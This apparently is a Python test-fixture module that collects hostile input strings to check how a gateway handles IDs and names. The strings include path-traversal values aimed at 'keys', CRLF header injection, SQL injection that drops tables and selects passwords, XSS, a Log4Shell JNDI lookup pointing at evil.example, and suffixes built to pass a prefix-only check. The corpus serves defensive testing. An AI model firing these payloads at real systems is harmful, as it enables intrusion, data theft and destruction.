"""Strings a hostile or careless caller may put where the gateway expects an ID or a name.

One corpus for the URL-safety tests (embedded in otherwise valid global IDs, and as raw
strings) and the bad-input corpus test (every ID and string argument).
"""

from __future__ import annotations

#: what may reshape an upstream path or query if it were pasted in unencoded
PATH_ATTACKS: dict[str, str] = {
    "dot-dot": "..",
    "dot": ".",
    "traversal": "../../keys",
    "traversal-backslash": "..\\..\\keys",
    "encoded-dots": "%2e%2e",
    "encoded-traversal": "%2e%2e%2fkeys",
    "encoded-slash": "a%2fb",
    "slash": "a/b",
    "leading-slash": "/v1/organizations",
    "query": "x?admin=true",
    "fragment": "x#frag",
    "matrix": "x;jsessionid=1",
    "ampersand": "x&limit=1",
    "absolute-url": "http://evil.example/x",
    "scheme-relative": "//evil.example/x",
    "at-sign": "user@evil.example",
    "crlf": "x\r\nX-Injected: 1",
    "lf": "x\nGET /admin",
    "nul": "x\x00y",
    "tab": "x\ty",
    "fullwidth-dots": "\uff0e\uff0e",
    "fullwidth-slash": "a\uff0fb",
    "one-dot-leader": "\u2024\u2024",
    "very-long": "a" * 5000,
}

#: injection payloads aimed at whatever may sit behind the vendor API or the gateway
INJECTIONS: dict[str, str] = {
    "sql": "' OR '1'='1'; DROP TABLE users; --",
    "sql-union": "1 UNION SELECT password FROM credentials",
    "template-jinja": "{{7*7}}",
    "template-dollar": "${jndi:ldap://evil.example/a}",
    "format-string": "%s%s%s%n",
    "json-in-string": '{"id": "1", "admin": true}',
    "html": "<script>alert(1)</script>",
    "header-injection": "x\r\nSet-Cookie: a=b",
}

#: Unicode a naive encoder or logger may trip over
UNICODE: dict[str, str] = {
    "rtl-override": "\u202eabc",
    "zero-width": "a\u200bb\ufeff",
    "combining": "e\u0301\u0301\u0301",
    "emoji": "\U0001f4a9",
    "nonchar": "\uffff",
    "lone-surrogate": "\ud800",
    "overlong-utf8-as-text": "\xc0\xaf",
    "empty": "",
    "spaces": "   ",
}

ALL: dict[str, str] = {**PATH_ATTACKS, **INJECTIONS, **UNICODE}

#: values that can travel inside a global ID (the encoder quotes them as UTF-8, which a
#: lone surrogate cannot be; an empty key part is no ID at all)
IN_IDS: dict[str, str] = {k: v for k, v in ALL.items() if k not in ("lone-surrogate", "empty")}

#: appended to a real ID: passes a check that only looks at how a value starts
#: (``re.match`` with ``$`` lets a trailing newline through)
SUFFIXES: tuple[str, ...] = ("\n", "/..", "/../keys", "?limit=1", "#x", "%2f..", "\x00", " ")


def around(real: str) -> list[str]:
    """The corpus for one key part: every value that fits in an ID, and the real value
    with each suffix."""
    return [*IN_IDS.values(), *(real + suffix for suffix in SUFFIXES)]
